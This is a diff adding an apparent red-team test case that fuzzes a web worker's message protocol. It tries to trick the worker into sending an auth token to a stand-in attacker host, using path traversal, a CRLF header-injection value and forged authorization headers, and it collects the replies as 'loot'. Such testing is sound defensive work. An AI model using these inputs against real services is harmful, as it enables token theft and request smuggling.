@@ -1,0 +1,84 @@
+// A real attacker: speaks the worker's protocol by hand, with every type, length and number that it might not expect,
+// to confuse it into using a token where it should not.
+export default {
+  row: "messages",
+  expected: ["loses", "loses"],
+  before: (redteam) => {
+    const { MessageChannel } = globalThis;
+    redteam.ports = [];
+    globalThis.MessageChannel = class extends MessageChannel {
+      constructor() {
+        super();
+        redteam.ports.push(this.port1);
+      }
+    };
+  },
+  after: async ({ api, evil, home }) => {
+    const { redteam } = globalThis;
+    const [port] = redteam.ports;
+    const replies = [];
+    port.addEventListener("message", ({ data }) => replies.push(data));
+    const get = { method: "GET" };
+    const inits = [
+      get,
+      { ...get, redirect: "follow", mode: "no-cors", credentials: "include" },
+      { ...get, headers: { authorization: "x" }, window: null, signal: 5, duplex: "half" },
+      { method: "CONNECT" },
+      { method: "POST", body: [["a", "b"]] },
+      { method: "POST", body: new Map() },
+      null,
+      "init",
+    ];
+    const urls = [
+      `${api}/v1/me`,
+      `${evil}/v1/me`,
+      `${home}/auth/refresh`,
+      `${api}/v1/../reflect`,
+      "",
+      {},
+      [],
+      -1,
+    ];
+    const headers = [
+      [],
+      [["authorization", "Bearer x"]],
+      [["x"]],
+      "x",
+      [[`x\r\nhost`, evil]],
+      null,
+      [
+        [1, 2],
+        [{}, []],
+      ],
+    ];
+    let id = 1000;
+    for (const init of inits) {
+      for (const url of urls) port.postMessage([0, ++id, url, headers[id % headers.length], init, true]);
+    }
+    const odd = [
+      undefined,
+      null,
+      0,
+      -1,
+      1e300,
+      NaN,
+      "0",
+      "x".repeat(1e6),
+      {},
+      [],
+      [[]],
+      new Date(),
+      /x/,
+      10n,
+      true,
+    ];
+    for (const one of odd) {
+      port.postMessage(one);
+      for (let kind = -1; kind < 12; kind++)
+        if (kind !== 3) port.postMessage([kind, one, one, one, one, one]);
+    }
+    await new Promise((resolve) => setTimeout(resolve, 1500));
+    redteam.loot(replies.map((reply) => JSON.stringify(reply, (_, value) => (value === null ? 0 : value))));
+    return replies.length;
+  },
+};
